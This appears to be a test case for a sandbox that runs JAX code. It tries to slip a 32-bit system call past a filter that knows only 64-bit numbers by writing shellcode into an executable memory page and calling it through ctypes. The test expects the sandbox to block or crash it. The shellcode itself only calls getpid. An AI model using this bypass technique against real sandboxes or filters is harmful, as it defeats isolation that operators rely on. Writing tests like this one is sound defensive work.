"""Success: a system call by its 32-bit number, past a filter that knows the 64-bit ones.
verdict: security_violation|runtime_error
"""

import ctypes
import mmap

import jax
import jax.numpy as jnp

# mov eax, 20 (getpid); int 0x80; ret
CODE = b"\xb8\x14\x00\x00\x00\xcd\x80\xc3"


def attack(number: float) -> jax.Array:
    memory = mmap.mmap(-1, mmap.PAGESIZE, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, prot=7)
    memory.write(CODE)
    address = ctypes.addressof(ctypes.c_char.from_buffer(memory))
    return jnp.asarray(number * (ctypes.CFUNCTYPE(ctypes.c_long)(address)() > 0))
